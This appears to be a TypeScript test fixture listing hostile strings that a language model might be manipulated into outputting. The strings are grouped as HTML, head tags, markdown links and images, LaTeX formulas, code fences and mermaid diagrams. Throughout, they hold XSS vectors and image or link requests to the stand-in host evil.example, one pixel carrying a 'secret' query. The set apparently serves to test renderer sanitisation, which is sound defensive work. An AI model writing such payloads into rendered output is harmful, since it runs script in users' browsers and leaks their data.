/** Where a request of a hostile text would go; nothing may ever ask it. */
export const evil = 'evil.example'
const at = `https://${evil}`

/**
 * What a model may be talked into writing to run a script in the page, or to tell someone else that its text was read.
 * Each entry is a whole text of its own; `window.pwned` is what a script would set.
 */
export const hostileTexts: Record<string, string> = {
  tags: [
    '<script>window.pwned=1</script>',
    `<script src="${at}/x.js"></script>`,
    '<img src=x onerror="window.pwned=1">',
    `<img src="${at}/p.png" srcset="${at}/p2.png 2x">`,
    '<svg onload="window.pwned=1"><script>window.pwned=1</script></svg>',
    `<svg><image href="${at}/i.png"/><use href="${at}/u.svg#x"/></svg>`,
    `<iframe src="${at}/f" srcdoc="<script>parent.pwned=1</script>"></iframe>`,
    `<object data="${at}/o"></object><embed src="${at}/e">`,
    `<video src="${at}/v" poster="${at}/p"></video><audio src="${at}/a"></audio>`,
    `<form action="${at}/form"><button formaction="${at}/b" autofocus onfocus="window.pwned=1">x</button></form>`,
    `<input autofocus onfocus="window.pwned=1"><details open ontoggle="window.pwned=1">`,
    `<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1></style></mglyph></table></mtext></math>`,
    `<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">`,
  ].join('\n\n'),
  heads: [
    `<base href="${at}/">`,
    `<meta http-equiv="refresh" content="0;url=${at}/r">`,
    `<link rel="stylesheet" href="${at}/s.css"><link rel="preload" href="${at}/l" as="image">`,
    `<link rel="dns-prefetch" href="//${evil}"><link rel="preconnect" href="${at}">`,
    `<style>@import "${at}/i.css"; * { background: url(${at}/b.png) }</style>`,
    `<body background="${at}/bg" onload="window.pwned=1">`,
  ].join('\n\n'),
  links: [
    '[a](javascript:window.pwned=1)',
    '[b](JaVaScRiPt&colon;window.pwned=1)',
    '[c](java\tscript:window.pwned=1)',
    '[d](&#x6A;avascript:window.pwned=1)',
    '[e](data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9MTwvc2NyaXB0Pg==)',
    '[f](vbscript:msgbox) [g](blob:x) [h](filesystem:x) [i](//evil.example/p) [j](\\\\evil.example)',
    `<javascript:window.pwned=1> <${at}/auto> ${at}/bare`,
    `[k][ref]\n\n[ref]: javascript:window.pwned=1 "t"`,
    `[l](${at} "\\" onmouseover=window.pwned=1 \\"")`,
    '[\u202Egnp.exe\u202C](https://evil.example/\u202Egnp.exe) [аpple.com](https://xn--pple-43d.com)',
    '[__proto__](#constructor) [m](#cookie) <a id=location name=location href=x>',
  ].join('\n\n'),
  pictures: [
    `![x](${at}/pixel.png?q=secret)`,
    `![x][r]\n\n[r]: ${at}/ref.png`,
    `[![x](${at}/inner.png)](javascript:window.pwned=1)`,
    '![x](javascript:window.pwned=1)',
    '![x](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0icHduZWQ9MSIvPg==)',
    `![x](//${evil}/p.png) ![y](http://${evil}/p.png) ![z](ftp://${evil}/p)`,
    `| ![x](${at}/cell.png) |\n|--|\n| <img src=${at}/cell2.png> |`,
  ].join('\n\n'),
  formulas: [
    `$\\href{javascript:window.pwned=1}{x}$ $\\url{${at}/u}$`,
    `$\\includegraphics[height=1em]{${at}/g.png}$`,
    `$\\htmlData{x=1, onclick=window.pwned=1}{x}$ $\\htmlStyle{background:url(${at}/s)}{x}$`,
    '$\\htmlId{app}{x}$ $\\htmlClass{composer-dock}{x}$',
    `$$\\href{${at}}{\\text{<img src=x onerror=window.pwned=1>}}$$`,
    '$\\def\\x{\\x\\x}\\x$ $\\rule{9999em}{9999em}$ $\\kern{99999em}$',
    `\\(\\text{</span><script>window.pwned=1</script>}\\) \\[\\color{red;background:url(${at}/c)}x\\]`,
    `$\\fcolorbox{red}{url(${at}/f)}{x}$ $\\pmb{x}$`,
  ].join('\n\n'),
  code: [
    '```html\n<script>window.pwned=1</script>\n```',
    '```<img/src=x onerror=window.pwned=1>\ncode\n```',
    `\`\`\`css\n@import "${at}/c.css"; a { background: url(${at}/u) }\n\`\`\``,
    '```__proto__\nx\n```\n\n```constructor\ny\n```\n\n```../../x\nz\n```',
    '`</code><script>window.pwned=1</script>`',
  ].join('\n\n'),
  diagrams: [
    `flowchart LR\n  A["<img src=x onerror=window.pwned=1>"] --> B["<script>window.pwned=1</script>"]\n  click A href "javascript:window.pwned=1"\n  click B href "${at}/click" _blank`,
    `flowchart LR\n  A --> B\n  click A call window.alert(1)\n  click B callback "x"`,
    `%%{init: {"securityLevel": "loose", "htmlLabels": true, "themeCSS": "@import url(${at}/t.css); * { background: url(${at}/tc) }", "flowchart": {"htmlLabels": true}}}%%\nflowchart LR\n  A["<img src='${at}/init.png' onerror='window.pwned=1'>"] --> B`,
    `---\nconfig:\n  securityLevel: loose\n  fontFamily: "x; background: url(${at}/ff)"\n---\nflowchart LR\n  A --> B`,
    `flowchart LR\n  A@{ img: "${at}/node.png", label: "x", w: 60, h: 60 }\n  B@{ icon: "evil:icon" }`,
    `flowchart LR\n  A --> B\n  classDef x fill:url(${at}/fill),background:url(${at}/bg)\n  class A x\n  style B fill:#fff,stroke:url(${at}/st)\n  linkStyle 0 stroke:url(${at}/ls)`,
    `sequenceDiagram\n  participant A as <img src=x onerror=window.pwned=1>\n  link A: x @ javascript:window.pwned=1\n  links A: {"d": "${at}/links"}\n  A->>A: <iframe src="${at}/seq"></iframe>`,
    `classDiagram\n  class A\n  link A "javascript:window.pwned=1" "t"\n  click A href "${at}/class"`,
    `gantt\n  title <script>window.pwned=1</script>\n  section S\n  click a href "javascript:window.pwned=1"\n  x :a, 2024-01-01, 3d`,
    `C4Context\n  Person(a, "x", $sprite="${at}/sprite.png")`,
    `flowchart LR\n  A["$$\\href{javascript:window.pwned=1}{x}$$"] --> B["${'`'}**[x](javascript:window.pwned=1)** ![x](${at}/md.png)${'`'}"]`,
    'flowchart LR\n  __proto__ --> constructor\n  constructor --> prototype',
  ]
    .map((source) => `\`\`\`mermaid\n${source}\n\`\`\``)
    .join('\n\n'),
}
